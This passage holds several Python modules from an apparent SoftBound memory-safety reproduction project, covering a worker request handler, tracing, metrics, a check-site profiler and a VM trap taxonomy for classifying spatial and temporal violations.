            return {"error": f"compile error: {error}",
                    "cli_exit": EX_COMPILE, "origin": None,
                    "pid": os.getpid()}
        shard.put(cache_key, (compiled, fingerprint))
    if payload.get("mode") == "compile":
        from ..store.format import compute_key

        row = {"name": payload.get("name", "program"),
               "profile": profile.name, "opt": optimize, "origin": origin,
               "key": compute_key(payload["source"], profile, optimize),
               "output": fingerprint}
        return {"row": row, "cli_exit": 0, "origin": origin,
                "pid": os.getpid()}
    # run_compiled is the same execution path one-shot CLI runs take, so
    # serve responses are bit-identical to `repro run --json` apart from
    # wallclock and the cache block.
    report = run_compiled(compiled, profile=profile,
                          name=payload.get("name", "program"),
                          input_data=payload.get("input", b""),
                          entry=payload.get("entry", "main"),
                          engine=payload.get("engine"),
                          max_instructions=budget)
    report.cache = dict(origin=origin, memory=worker_cache_counters())
    row = report.to_json()
    # One serve-only extension: the program's stdout.  Clients talking
    # HTTP have no other channel for it; strip "output" (plus the
    # wallclock/cache/obs blocks) to recover the exact CLI --json row.
    row["output"] = report.output
    return {"row": row, "cli_exit": exit_code_for(report),
            "origin": origin, "pid": os.getpid()}


def compiled_fingerprint(compiled):
    """sha256 over a fresh pickle of ``compiled``.

    Only valid for a program that has **never been instantiated** —
    running attaches runtime closures that do not pickle.  Store-backed
    paths should prefer the entry's own ``payload_sha256`` (what
    :func:`compile_coalesced` returns), which is canonical for everyone
    who loaded those bytes."""
    import hashlib

    from ..store.format import dumps_program

    return hashlib.sha256(dumps_program(compiled)).hexdigest()


def warmup():
    """Pre-warm hook the worker entry point calls before serving: load
    the policy registry and touch the toolchain so the first real
    request pays neither import nor registry-build cost."""
    from ..api.profiles import as_profile
    from ..api.toolchain import Toolchain  # noqa: F401  (import warmth)

    as_profile("spatial")
    _worker_cache()
    return os.getpid()
