"""Structured tracer: nestable spans emitted as JSON-lines.

One line per finished span::

    {"name": "stage.optimize", "span": "12345:3", "parent": "12345:1",
     "ts": 1723020000.123, "dur": 0.0042, "pid": 12345,
     "attrs": {"function_count": 4}}

``ts`` is the span's start (``time.time()``), ``dur`` its wallclock
duration in seconds, ``span``/``parent`` are ``pid:seq`` identifiers so
lines from pool workers interleave without colliding.  Attributes are
JSON-safe scalars supplied at ``start_span`` or ``finish`` time; VM
spans add instruction costs there.

Enable with ``REPRO_TRACE=path`` in the environment or
:func:`enable_tracing` (the CLI's ``--trace PATH``).  Enabling also
exports ``REPRO_TRACE`` so pool workers inherit the sink and append to
the same file — lines are written atomically (single ``write`` of one
line, opened with ``O_APPEND`` semantics) so concurrent writers never
shear.  When disabled, :func:`tracer` returns a shared null object
whose ``span``/``start_span`` hand back no-op spans: the cost at an
instrumented call site is one method call, no allocation.

Nesting is tracked per-thread; ``span()`` is a context manager,
``start_span``/``finish`` the explicit form for spans that outlive a
scope (parallel task lifetimes).
"""

import json
import os
import threading
import time


class _NullSpan:
    __slots__ = ()

    def set(self, **attrs):
        return self

    def finish(self, **attrs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


NULL_SPAN = _NullSpan()


class _NullTracer:
    __slots__ = ()
    enabled = False
    path = None

    def span(self, name, **attrs):
        return NULL_SPAN

    def start_span(self, name, **attrs):
        return NULL_SPAN

    def summary(self):
        return {}

NULL_TRACER = _NullTracer()


class Span:
    __slots__ = ("tracer", "name", "span_id", "parent_id", "ts",
                 "attrs", "_t0", "_done")

    def __init__(self, tracer, name, span_id, parent_id, attrs):
        self.tracer = tracer
        self.name = name
        self.span_id = span_id
        self.parent_id = parent_id
        self.attrs = attrs
        self.ts = time.time()
        self._t0 = time.perf_counter()
        self._done = False

    def set(self, **attrs):
        self.attrs.update(attrs)
        return self

    def finish(self, **attrs):
        if self._done:
            return
        self._done = True
        if attrs:
            self.attrs.update(attrs)
        self.tracer._finish(self, time.perf_counter() - self._t0)

    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc, tb):
        if exc_type is not None and "error" not in self.attrs:
            self.attrs["error"] = exc_type.__name__
        self.finish()
        return False


class Tracer:
    """JSON-lines span emitter with per-thread nesting."""

    enabled = True

    def __init__(self, path):
        self.path = str(path)
        self._fh = open(self.path, "a", encoding="utf-8")
        self._lock = threading.Lock()
        self._seq = 0
        self._pid = os.getpid()
        self._stack = threading.local()
        self._summary = {}

    def _next_id(self):
        with self._lock:
            self._seq += 1
            return "%d:%d" % (self._pid, self._seq)

    def _current(self):
        stack = getattr(self._stack, "spans", None)
        if stack is None:
            stack = self._stack.spans = []
        return stack

    def start_span(self, name, **attrs):
        stack = self._current()
        parent = stack[-1].span_id if stack else None
        span = Span(self, name, self._next_id(), parent, attrs)
        stack.append(span)
        return span

    def span(self, name, **attrs):
        return self.start_span(name, **attrs)

    def _finish(self, span, dur):
        stack = self._current()
        # Out-of-order finishes (explicit start_span held across scopes)
        # just remove the span wherever it sits.
        if span in stack:
            stack.remove(span)
        line = {
            "name": span.name,
            "span": span.span_id,
            "ts": round(span.ts, 6),
            "dur": round(dur, 6),
            "pid": self._pid,
        }
        if span.parent_id is not None:
            line["parent"] = span.parent_id
        if span.attrs:
            line["attrs"] = span.attrs
        text = json.dumps(line, sort_keys=True, default=str) + "\n"
        with self._lock:
            self._fh.write(text)
            self._fh.flush()
            cell = self._summary.setdefault(span.name, [0, 0.0])
            cell[0] += 1
            cell[1] += dur

    def summary(self):
        """Per-span-name ``{count, total_s}`` totals for this process."""
        with self._lock:
            return {name: {"count": c, "total_s": round(t, 6)}
                    for name, (c, t) in sorted(self._summary.items())}

    def close(self):
        with self._lock:
            try:
                self._fh.close()
            except OSError:
                pass


class StageTracer:
    """Toolchain observer (duck-typed): one span per pipeline stage.

    ``Toolchain.__init__`` appends one of these when tracing is active;
    spans are named ``stage.<name>`` and nest under whatever span is
    open at compile time (a parallel task, a fuzz seed)."""

    def __init__(self):
        self._open = {}

    def before_stage(self, stage, payload):
        self._open[stage] = _tracer.start_span("stage." + stage)

    def after_stage(self, stage, artifact):
        span = self._open.pop(stage, None)
        if span is not None:
            span.finish()


_tracer = NULL_TRACER


def tracer():
    return _tracer


def tracing_enabled():
    return _tracer.enabled


def enable_tracing(path):
    """Start emitting spans to ``path`` (JSON-lines, appended).  Also
    exports ``REPRO_TRACE`` so pool workers inherit the sink."""
    global _tracer
    if _tracer.enabled:
        if _tracer.path == str(path):
            return _tracer
        _tracer.close()
    _tracer = Tracer(path)
    os.environ["REPRO_TRACE"] = str(path)
    return _tracer


def disable_tracing():
    global _tracer
    if _tracer.enabled:
        _tracer.close()
    _tracer = NULL_TRACER
    os.environ.pop("REPRO_TRACE", None)


def _auto_enable():
    path = os.environ.get("REPRO_TRACE")
    if path:
        enable_tracing(path)


_auto_enable()
