"""Process-wide metrics registry: counters, gauges, histograms with labels.

Instruments are created (or fetched) through a :class:`MetricsRegistry`;
the module-level :func:`default_registry` is what the store, session
caches, optimizer pipelines, parallel harness and fuzz campaign publish
into.  Three kinds:

* :class:`Counter` — monotonically increasing float/int.
* :class:`Gauge` — last-write-wins level (cache sizes, pool width).
* :class:`Histogram` — fixed-bucket distribution tracking count/sum/min/max.

Every instrument may be keyed by labels; a labelled series is named
``name{k=v,...}`` with label keys sorted, so snapshots are plain
``{series: value}`` dicts that pickle across process boundaries and
merge associatively (counters and histogram cells add, gauges take the
incoming value).

Two extra mechanisms keep legacy counter bags authoritative without
double counting:

* :meth:`MetricsRegistry.register_source` holds a *weakref* to an
  object plus an extractor returning ``{name: value}``; live sources
  are folded into every snapshot.  This is how ``StoreStats`` and the
  Session LRU surface without changing their hot paths.
* :meth:`MetricsRegistry.merge` accumulates a snapshot returned by a
  worker process into a side table, so parent totals cover pool work.
"""

import threading
import weakref

_DEFAULT_BUCKETS = (0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0)


def series_name(name, labels=None):
    """Render ``name{k=v,...}`` with sorted label keys (bare name when
    there are no labels)."""
    if not labels:
        return name
    inner = ",".join("%s=%s" % (k, labels[k]) for k in sorted(labels))
    return "%s{%s}" % (name, inner)


class Counter:
    """Monotonic counter.  ``inc`` with negative amounts is rejected so
    merged totals stay monotone."""

    kind = "counter"

    __slots__ = ("name", "value")

    def __init__(self, name):
        self.name = name
        self.value = 0

    def inc(self, amount=1):
        if amount < 0:
            raise ValueError("counter %s cannot decrease" % self.name)
        self.value += amount

    def collect(self):
        return {self.name: self.value}


class Gauge:
    """Last-write-wins level."""

    kind = "gauge"

    __slots__ = ("name", "value")

    def __init__(self, name):
        self.name = name
        self.value = 0

    def set(self, value):
        self.value = value

    def inc(self, amount=1):
        self.value += amount

    def dec(self, amount=1):
        self.value -= amount

    def collect(self):
        return {self.name: self.value}


class Histogram:
    """Fixed upper-bound buckets plus count/sum/min/max.

    Collected as one series per cell: ``name_count``, ``name_sum``,
    ``name_min``, ``name_max`` and ``name_bucket{le=...}`` (cumulative,
    with a final ``le=inf``).  All cells except min/max merge by
    addition; min/max merge by min/max and are kept out of associative
    merging by the registry.
    """

    kind = "histogram"

    __slots__ = ("name", "buckets", "counts", "count", "sum", "min", "max")

    def __init__(self, name, buckets=_DEFAULT_BUCKETS):
        self.name = name
        self.buckets = tuple(sorted(buckets))
        self.counts = [0] * (len(self.buckets) + 1)
        self.count = 0
        self.sum = 0.0
        self.min = None
        self.max = None

    def observe(self, value):
        self.count += 1
        self.sum += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value
        for i, bound in enumerate(self.buckets):
            if value <= bound:
                self.counts[i] += 1
                return
        self.counts[-1] += 1

    def collect(self):
        out = {
            self.name + "_count": self.count,
            self.name + "_sum": self.sum,
        }
        if self.min is not None:
            out[self.name + "_min"] = self.min
            out[self.name + "_max"] = self.max
        running = 0
        for bound, n in zip(self.buckets, self.counts):
            running += n
            out[series_name(self.name + "_bucket", {"le": bound})] = running
        out[series_name(self.name + "_bucket", {"le": "inf"})] = (
            running + self.counts[-1])
        return out


class MetricsRegistry:
    """Get-or-create instrument registry with snapshot/merge support."""

    def __init__(self):
        self._lock = threading.Lock()
        self._instruments = {}
        self._sources = []
        self._merged = {}

    def _instrument(self, cls, name, labels, **kwargs):
        key = series_name(name, labels)
        with self._lock:
            inst = self._instruments.get(key)
            if inst is None:
                inst = cls(key, **kwargs)
                self._instruments[key] = inst
            elif not isinstance(inst, cls):
                raise TypeError("metric %s already registered as %s"
                                % (key, inst.kind))
            return inst

    def counter(self, name, labels=None):
        return self._instrument(Counter, name, labels)

    def gauge(self, name, labels=None):
        return self._instrument(Gauge, name, labels)

    def histogram(self, name, labels=None, buckets=_DEFAULT_BUCKETS):
        return self._instrument(Histogram, name, labels, buckets=buckets)

    def register_source(self, prefix, obj, extract):
        """Fold ``extract(obj)`` (a ``{name: value}`` dict) into every
        snapshot under ``prefix``, for as long as ``obj`` is alive.
        Holds a weakref — registering never extends a lifetime."""
        with self._lock:
            self._sources.append((prefix, weakref.ref(obj), extract))

    def merge(self, snapshot):
        """Accumulate a snapshot from another process (or registry).
        ``*_min``/``*_max`` histogram cells merge by min/max, everything
        else by addition (snapshots are flat ``{series: value}`` dicts,
        so kind information is gone; workers therefore report *deltas*,
        which add correctly for counters and histogram cells)."""
        if not snapshot:
            return
        with self._lock:
            for key, value in snapshot.items():
                if key.endswith("_min"):
                    old = self._merged.get(key)
                    self._merged[key] = value if old is None else min(old, value)
                elif key.endswith("_max"):
                    old = self._merged.get(key)
                    self._merged[key] = value if old is None else max(old, value)
                else:
                    self._merged[key] = self._merged.get(key, 0) + value

    def merged(self, prefix=""):
        """The worker-merged side table as a plain dict, optionally
        filtered to series starting with ``prefix``.  Unlike
        :meth:`snapshot` this never sums live sources, so a consumer can
        fold pool deltas onto its *own* counters without picking up
        other instruments alive in the process."""
        with self._lock:
            return {k: v for k, v in self._merged.items()
                    if k.startswith(prefix)}

    def snapshot(self):
        """All series as a plain ``{series: value}`` dict: direct
        instruments + live registered sources + merged worker totals."""
        out = {}
        with self._lock:
            instruments = list(self._instruments.values())
            sources = list(self._sources)
            merged = dict(self._merged)
        for inst in instruments:
            for key, value in inst.collect().items():
                out[key] = out.get(key, 0) + value
        dead = []
        for source in sources:
            prefix, ref, extract = source
            obj = ref()
            if obj is None:
                dead.append(source)
                continue
            for name, value in extract(obj).items():
                key = prefix + name
                out[key] = out.get(key, 0) + value
        for key, value in merged.items():
            if key.endswith("_min"):
                old = out.get(key)
                out[key] = value if old is None else min(old, value)
            elif key.endswith("_max"):
                old = out.get(key)
                out[key] = value if old is None else max(old, value)
            else:
                out[key] = out.get(key, 0) + value
        if dead:
            with self._lock:
                # Drop dead sources so long-lived processes don't scan them.
                self._sources = [s for s in self._sources if s not in dead]
        return out

    def reset(self):
        with self._lock:
            self._instruments.clear()
            self._sources = []
            self._merged.clear()


def histogram_quantile(snapshot, name, quantile):
    """Estimate a quantile from a histogram's cumulative bucket series
    in a snapshot (``name_bucket{le=...}`` cells), the Prometheus
    ``histogram_quantile`` discipline: find the first bucket whose
    cumulative count covers ``quantile`` of the observations and
    linearly interpolate within it.  Returns ``None`` when the
    histogram is empty or absent; the top (``le=inf``) bucket reports
    the largest finite bound (clamped by ``name_max`` when present)
    rather than infinity."""
    prefix = name + "_bucket{le="
    cells = []
    for key, value in snapshot.items():
        if key.startswith(prefix):
            bound = key[len(prefix):-1]
            cells.append((float("inf") if bound == "inf" else float(bound),
                          value))
    if not cells:
        return None
    cells.sort()
    total = cells[-1][1]
    if total <= 0:
        return None
    rank = quantile * total
    previous_bound, previous_count = 0.0, 0
    for bound, cumulative in cells:
        if cumulative >= rank:
            if bound == float("inf"):
                finite = [b for b, _ in cells if b != float("inf")]
                bound = snapshot.get(name + "_max",
                                     finite[-1] if finite else 0.0)
                return max(bound, previous_bound)
            span = cumulative - previous_count
            if span <= 0:
                return bound
            fraction = (rank - previous_count) / span
            return previous_bound + (bound - previous_bound) * fraction
        previous_bound, previous_count = bound, cumulative
    return cells[-1][0]


_default = MetricsRegistry()


def default_registry():
    return _default
