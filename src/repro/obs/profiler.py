"""Check-site profiler: which *source sites* pay the SoftBound bill.

The instrumentation transform stamps every check it emits with an
``obs_site`` triple ``(function, source_line, seq)`` (the pre-rename
function name, the line of the statement the check guards, and a
per-function emission sequence number that keeps distinct checks on one
line apart).  Both VM engines — the reference interpreter and the
closure-compiled engine — bump a :class:`SiteProfile` at the *same
program points* relative to the per-instruction resource-limit check,
so per-site counts are bit-identical across engines, including runs
that end in a trap or hit the instruction limit.

The profiler is opt-in per machine (``machine.attach_site_profile``);
the compiled engine only builds counting closure variants when a
profile is attached at code-generation time (closure specialization,
the same pattern the fusions use), so the disabled path executes the
exact pre-profiler closures.

:func:`profile_source` is the high-level entry the ``python -m repro
profile`` CLI uses: compile under a profile, run under one engine,
return a :class:`ProfileReport` with the ranked hot-site table,
per-kind totals, attribution percentages and the optimizer's
elimination counters.
"""

from dataclasses import dataclass, field, fields, is_dataclass

#: The three profiled opcode kinds, in table-column order.
SITE_KINDS = ("sb_check", "sb_temporal_check", "sb_meta_load")

_UNKNOWN = ("?", None, -1)


def site_of(instr):
    """The site triple for an instruction: its ``obs_site`` stamp, or a
    deterministic unknown-site fallback for unstamped instructions
    (e.g. checks synthesized after the transform)."""
    site = getattr(instr, "obs_site", None)
    if site is not None:
        return site
    line = getattr(instr, "src_line", None)
    if line is not None:
        return ("?", line, -1)
    return _UNKNOWN


class SiteProfile:
    """Per-site execution counts, keyed ``(kind, function, line, seq)``.

    The dict is exposed directly: the compiled engine pre-binds it (and
    the pre-computed key) into counting closures, the interpreter
    handlers bump it inline.
    """

    __slots__ = ("counts",)

    def __init__(self):
        self.counts = {}

    def record(self, kind, site):
        key = (kind,) + tuple(site)
        counts = self.counts
        counts[key] = counts.get(key, 0) + 1

    def total(self, kind):
        return sum(n for key, n in self.counts.items() if key[0] == kind)

    def attributed(self, kind):
        """Executions at sites with a known source line."""
        return sum(n for key, n in self.counts.items()
                   if key[0] == kind and key[2] is not None and key[1] != "?")

    def merge(self, other):
        counts = self.counts
        for key, n in other.counts.items():
            counts[key] = counts.get(key, 0) + n


def _stats_dict(stats):
    if stats is None:
        return None
    if is_dataclass(stats):
        return {f.name: getattr(stats, f.name) for f in fields(stats)}
    if isinstance(stats, dict):
        return dict(stats)
    return None


@dataclass
class ProfileReport:
    """Everything ``python -m repro profile`` prints."""

    program: str
    profile: str
    engine: str
    exit_code: int = 0
    trap: str = None
    #: Ranked site rows: {function, line, seq, per-kind counts, total}.
    sites: list = field(default_factory=list)
    #: Executed totals per kind as seen by the profiler.
    totals: dict = field(default_factory=dict)
    #: Executed totals per kind as seen by the VM cost model.
    executed: dict = field(default_factory=dict)
    #: Fraction of executed instructions of each kind attributed to a
    #: ranked source site (known function + line).
    attribution: dict = field(default_factory=dict)
    #: Post-instrumentation optimizer counters (what was eliminated
    #: before anything ran) — the other half of the cost story.
    eliminated: dict = None
    #: Check instructions deleted at compile time, per kind — they never
    #: execute at all (checkelim's dominated duplicates plus the -O2
    #: prove pass's solver-deleted checks).
    eliminated_static: dict = field(default_factory=dict)
    #: Check instructions whose *executions* were reduced by runtime-path
    #: optimizations, per kind — hoisted to preheaders or widened behind
    #: a loop guard (the instruction still exists; it just runs less).
    eliminated_dynamic: dict = field(default_factory=dict)
    #: Number of -O2 deletion certificates the compile carries.
    certificates: int = 0
    instructions: int = 0
    dynamic_cost: int = 0

    def to_json(self):
        row = {
            "schema": "obs-profile-v1",
            "program": self.program,
            "profile": self.profile,
            "engine": self.engine,
            "exit_code": self.exit_code,
            "trap": self.trap,
            "instructions": self.instructions,
            "dynamic_cost": self.dynamic_cost,
            "totals": self.totals,
            "executed": self.executed,
            "attribution": {k: round(v, 4) for k, v in self.attribution.items()},
            "sites": self.sites,
            # Always present (zeros when nothing was eliminated) so
            # downstream diff tools never key-miss.
            "eliminated_static": self.eliminated_static,
            "eliminated_dynamic": self.eliminated_dynamic,
            "certificates": self.certificates,
        }
        if self.eliminated is not None:
            row["eliminated"] = self.eliminated
        return row


def build_report(profile_obj, result, *, program, profile_name, engine,
                 compiled=None, top=None):
    """Fold a finished run's :class:`SiteProfile` + ExecutionResult into
    a :class:`ProfileReport`."""
    per_site = {}
    for (kind, func, line, seq), n in profile_obj.counts.items():
        row = per_site.setdefault((func, line, seq), dict.fromkeys(SITE_KINDS, 0))
        row[kind] += n
    # Sites the -O2 prove pass deleted never execute, so they are
    # invisible to the dynamic counts — surface them as zero-count rows
    # annotated with the number of statically proved checks.
    certificates = ()
    if compiled is not None:
        certificates = tuple(
            getattr(compiled, "prove_certificates", None) or ())
    proved_by_site = {}
    for cert in certificates:
        kind = ("sb_temporal_check" if cert.kind == "temporal"
                else "sb_check")
        row = proved_by_site.setdefault(tuple(cert.site),
                                        dict.fromkeys(SITE_KINDS, 0))
        row[kind] += 1
    for key in proved_by_site:
        per_site.setdefault(key, dict.fromkeys(SITE_KINDS, 0))
    sites = []
    for (func, line, seq), kinds in per_site.items():
        proved = proved_by_site.get((func, line, seq))
        sites.append({
            "function": func,
            "line": line,
            "seq": seq,
            "counts": kinds,
            "total": sum(kinds.values()),
            "proved": sum(proved.values()) if proved else 0,
        })
    sites.sort(key=lambda r: (-r["total"], r["function"],
                              r["line"] if r["line"] is not None else -1,
                              r["seq"]))
    if top is not None:
        sites = sites[:top]

    stats = result.stats
    executed = {}
    if stats is not None:
        executed = {
            "sb_check": stats.checks,
            "sb_temporal_check": stats.temporal_checks,
            "sb_meta_load": stats.metadata_loads,
        }
    totals = {kind: profile_obj.total(kind) for kind in SITE_KINDS}
    attribution = {}
    for kind in SITE_KINDS:
        denom = executed.get(kind) or totals[kind]
        attribution[kind] = (profile_obj.attributed(kind) / denom) if denom else 1.0

    eliminated = None
    post = {}
    if compiled is not None:
        eliminated = {}
        for label, bag in (("optimize", getattr(compiled, "pass_stats", None)),
                           ("post_optimize",
                            getattr(compiled, "check_opt_stats", None))):
            as_dict = _stats_dict(bag)
            if as_dict:
                eliminated[label] = as_dict
        post = eliminated.get("post_optimize", {})
        if not eliminated:
            eliminated = None
    eliminated_static = {
        "sb_check": (post.get("removed_checks", 0)
                     + post.get("proved_checks", 0)),
        "sb_temporal_check": (post.get("removed_temporal_checks", 0)
                              + post.get("proved_temporal_checks", 0)),
        "by_proof": {
            "sb_check": post.get("proved_checks", 0),
            "sb_temporal_check": post.get("proved_temporal_checks", 0),
        },
    }
    eliminated_dynamic = {
        "hoisted_checks": post.get("hoisted_checks", 0),
        "hoisted_meta_loads": post.get("hoisted_meta_loads", 0),
        "widened_checks": post.get("widened_checks", 0),
    }

    return ProfileReport(
        program=program,
        profile=profile_name,
        engine=engine,
        exit_code=result.exit_code,
        trap=result.trap.kind.name if result.trap is not None else None,
        sites=sites,
        totals=totals,
        executed=executed,
        attribution=attribution,
        eliminated=eliminated,
        eliminated_static=eliminated_static,
        eliminated_dynamic=eliminated_dynamic,
        certificates=len(certificates),
        instructions=stats.instructions if stats is not None else 0,
        dynamic_cost=stats.cost if stats is not None else 0,
    )


def profile_source(source, profile="spatial", engine=None, input_data=b"",
                   max_instructions=200_000_000, program="<source>", top=None,
                   optimize=True):
    """Compile ``source`` under ``profile`` at ``optimize`` (any level
    the toolchain accepts, including 2 / a ProveConfig), run it once
    under ``engine`` with a site profile attached, and report."""
    from ..api import as_profile, compile_source, resolve_engine

    prof = as_profile(profile)
    engine = resolve_engine(engine)
    compiled = compile_source(source, profile=prof, optimize=optimize)
    machine = compiled.instantiate(
        input_data=input_data, max_instructions=max_instructions,
        observers=prof.make_observers(), engine=engine)
    site_profile = SiteProfile()
    machine.attach_site_profile(site_profile)
    result = machine.run()
    return build_report(site_profile, result, program=program,
                        profile_name=prof.name, engine=engine,
                        compiled=compiled, top=top)


def render_table(report, top=20, out=None):
    """Format the hot-site table as aligned text lines."""
    lines = []
    lines.append("check-site profile: %s  (profile=%s engine=%s)"
                 % (report.program, report.profile, report.engine))
    lines.append("instructions=%d dynamic_cost=%d exit=%d%s"
                 % (report.instructions, report.dynamic_cost,
                    report.exit_code,
                    " trap=%s" % report.trap if report.trap else ""))
    header = ("%-4s %-28s %6s %12s %12s %12s %12s %7s"
              % ("#", "site", "line", "sb_check", "temporal", "meta_load",
                 "total", "proved"))
    lines.append(header)
    lines.append("-" * len(header))
    rows = report.sites[:top] if top is not None else report.sites
    for rank, row in enumerate(rows, 1):
        line = row["line"] if row["line"] is not None else "?"
        site = "%s#%d" % (row["function"], row["seq"])
        counts = row["counts"]
        proved = row.get("proved", 0)
        lines.append("%-4d %-28s %6s %12d %12d %12d %12d %7s"
                     % (rank, site, line, counts["sb_check"],
                        counts["sb_temporal_check"], counts["sb_meta_load"],
                        row["total"],
                        ("%d" % proved) if proved else ""))
    if len(report.sites) > len(rows):
        lines.append("... %d more sites" % (len(report.sites) - len(rows)))
    lines.append("attribution: " + "  ".join(
        "%s=%.1f%%" % (kind, report.attribution.get(kind, 0.0) * 100)
        for kind in SITE_KINDS))
    static = report.eliminated_static or {}
    dynamic = report.eliminated_dynamic or {}
    by_proof = static.get("by_proof", {})
    lines.append(
        "eliminated static: sb_check=%d sb_temporal_check=%d "
        "(by proof: %d+%d, %d certificates)"
        % (static.get("sb_check", 0), static.get("sb_temporal_check", 0),
           by_proof.get("sb_check", 0), by_proof.get("sb_temporal_check", 0),
           report.certificates))
    lines.append(
        "eliminated dynamic: hoisted_checks=%d hoisted_meta_loads=%d "
        "widened_checks=%d"
        % (dynamic.get("hoisted_checks", 0),
           dynamic.get("hoisted_meta_loads", 0),
           dynamic.get("widened_checks", 0)))
    if report.eliminated:
        for label, bag in report.eliminated.items():
            interesting = {k: v for k, v in bag.items() if v}
            if interesting:
                lines.append("eliminated[%s]: " % label + "  ".join(
                    "%s=%d" % kv for kv in sorted(interesting.items())))
    text = "\n".join(lines)
    if out is not None:
        out.write(text + "\n")
    return text
