"""Unified observability: metrics, tracing and the check-site profiler.

Three small, independent layers share this package:

* :mod:`repro.obs.metrics` — a process-wide registry of counters,
  gauges and histograms (with labels) that the store, session caches,
  optimizer pipelines, parallel harness and fuzz campaign publish into.
  Snapshots are plain dicts, so worker processes return them across
  pickling boundaries and the parent merges them back in.
* :mod:`repro.obs.trace` — a structured tracer: nestable spans with
  wallclock durations, emitted as JSON-lines.  Enabled by the
  ``REPRO_TRACE=path`` environment variable or ``--trace PATH``; when
  disabled, every call site pays one attribute lookup on a shared
  null object and nothing else.
* :mod:`repro.obs.profiler` — a per-site profiler for the SoftBound
  runtime instructions (``sb_check`` / ``sb_temporal_check`` /
  ``sb_meta_load``), keyed back to source lines through the
  ``obs_site`` stamps the transform leaves on every emitted check.
  Both VM engines count at identical program points; the compiled
  engine builds counting closure variants only when a profile is
  attached (the same make-time specialization the fusions use), so
  the disabled path is byte-for-byte the pre-profiler code.

Whether observability output is *emitted* (the ``obs`` block on run
reports, worker snapshot merging) is controlled here: tracing on, the
``REPRO_METRICS`` environment variable, or :func:`enable_metrics`.
Metrics are always *collected* — the bumps are coarse-grained and
cheap — but reports stay byte-identical unless observability was
switched on.
"""

import os

from .metrics import MetricsRegistry, default_registry
from .trace import (
    disable_tracing,
    enable_tracing,
    tracer,
    tracing_enabled,
)

_metrics_forced = False


def enable_metrics():
    """Force metrics emission (the ``obs`` report block and worker
    snapshot merging) on for this process, without tracing."""
    global _metrics_forced
    _metrics_forced = True


def disable_metrics():
    global _metrics_forced
    _metrics_forced = False


def obs_enabled():
    """True when observability output should be emitted: tracing is
    active, ``REPRO_METRICS`` is set, or :func:`enable_metrics` ran."""
    return (_metrics_forced or tracing_enabled()
            or bool(os.environ.get("REPRO_METRICS")))


def obs_block():
    """The optional ``obs`` block for :class:`~repro.api.RunReport`:
    a metrics snapshot plus (when tracing) the trace summary."""
    block = {"metrics": default_registry().snapshot()}
    if tracing_enabled():
        block["trace"] = tracer().summary()
    return block


__all__ = [
    "MetricsRegistry",
    "default_registry",
    "disable_metrics",
    "disable_tracing",
    "enable_metrics",
    "enable_tracing",
    "obs_block",
    "obs_enabled",
    "tracer",
    "tracing_enabled",
]
