"""VM trap taxonomy and execution outcome types.

The interpreter never raises raw Python exceptions for program-level
events; everything a C program can "do wrong" is reported as a
:class:`Trap` with a :class:`TrapKind`, so the harness and the detection
experiments (Tables 3 and 4) can classify outcomes precisely.
"""

import enum
from dataclasses import dataclass, field


class TrapKind(enum.Enum):
    #: SoftBound or a baseline checker detected a spatial violation.
    SPATIAL_VIOLATION = "spatial_violation"
    #: The lock-and-key temporal checker detected a dangling-pointer
    #: access: use-after-free, double free, or a dangling stack pointer
    #: (the companion mechanism the paper defers to; CETS-style).
    TEMPORAL_VIOLATION = "temporal_violation"
    #: Access left all mapped segments (simulated SIGSEGV).
    SEGFAULT = "segfault"
    #: A return address / function pointer / longjmp target was corrupted
    #: and control transferred somewhere the program never set up.
    CONTROL_FLOW_HIJACK = "control_flow_hijack"
    #: Corrupted code address that maps to no function at all.
    WILD_JUMP = "wild_jump"
    #: Integer division by zero.
    DIV_BY_ZERO = "div_by_zero"
    #: Heap exhausted (the formal semantics' OutOfMem outcome).
    OUT_OF_MEMORY = "out_of_memory"
    #: Simulated stack exhausted.
    STACK_OVERFLOW = "stack_overflow"
    #: Executed an `unreachable` (fell off a goto-only block).
    UNREACHABLE = "unreachable"
    #: abort() called by the program (distinct from checker aborts).
    ABORT = "abort"
    #: Dynamic check on variadic argument decoding failed (paper §5.2).
    VARARG_VIOLATION = "vararg_violation"
    #: Function-pointer check failed (base==bound encoding, paper §5.2).
    FUNCTION_POINTER_VIOLATION = "function_pointer_violation"
    #: Interpreter resource limit (instruction budget) exceeded.
    RESOURCE_LIMIT = "resource_limit"


@dataclass
class Trap(Exception):
    kind: TrapKind
    detail: str = ""
    #: Faulting simulated address, when meaningful.
    address: int = 0
    #: For hijacks: the symbol control was redirected to, if resolvable.
    target_symbol: str = ""
    #: Which checker raised it ("softbound", "jones_kelly", "vm", ...).
    source: str = "vm"

    def __str__(self):
        loc = f" @0x{self.address:x}" if self.address else ""
        tgt = f" -> {self.target_symbol}" if self.target_symbol else ""
        return f"{self.kind.value}{loc}{tgt}: {self.detail} [{self.source}]"

    def __reduce__(self):
        # Exceptions default to pickling via ``self.args``, which a
        # dataclass ``__init__`` never populates — reconstruct from the
        # fields instead (the parallel harness ships results containing
        # traps across process boundaries).  ``type(self)`` keeps
        # subclasses (TemporalTrap) pickling as themselves.
        return (type(self), (self.kind, self.detail, self.address,
                             self.target_symbol, self.source))


@dataclass
class TemporalTrap(Trap):
    """A lock-and-key temporal check failed: the pointer's key no longer
    matches its lock location's current value (the allocation was freed,
    its stack frame torn down, or the same pointer freed twice).  A
    distinct class so callers can catch temporal failures precisely;
    the kind is always :attr:`TrapKind.TEMPORAL_VIOLATION`."""


def temporal_violation(access_kind, ptr, key, lock):
    """The one construction point for temporal-check failures, so the
    interpreter, the compiled engine and the libc wrappers raise
    byte-identical traps."""
    return TemporalTrap(
        TrapKind.TEMPORAL_VIOLATION,
        f"{access_kind} through dead pointer (key {key} vs lock #{lock})",
        address=ptr,
        source="softbound",
    )


@dataclass
class ExecutionResult:
    """Outcome of one program run."""

    exit_code: int = 0
    output: str = ""
    trap: Trap = None
    stats: object = None
    #: Values of named globals sampled after the run (tests use this).
    global_samples: dict = field(default_factory=dict)

    @property
    def ok(self):
        return self.trap is None

    @property
    def detected_violation(self):
        """True when a *checker* stopped the program (not a crash)."""
        return self.trap is not None and self.trap.kind in (
            TrapKind.SPATIAL_VIOLATION,
            TrapKind.TEMPORAL_VIOLATION,
            TrapKind.VARARG_VIOLATION,
            TrapKind.FUNCTION_POINTER_VIOLATION,
        )

    @property
    def attack_succeeded(self):
        """True when control flow was hijacked or the payload ran."""
